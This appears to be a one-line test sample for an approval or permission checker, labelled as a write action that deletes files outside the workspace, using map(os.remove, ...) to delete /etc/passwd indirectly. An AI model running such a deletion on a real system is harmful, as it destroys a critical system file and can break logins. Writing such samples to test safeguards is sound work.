# approval:write: delete files outside by map
import os

list(map(os.remove, ["/etc/passwd"]))
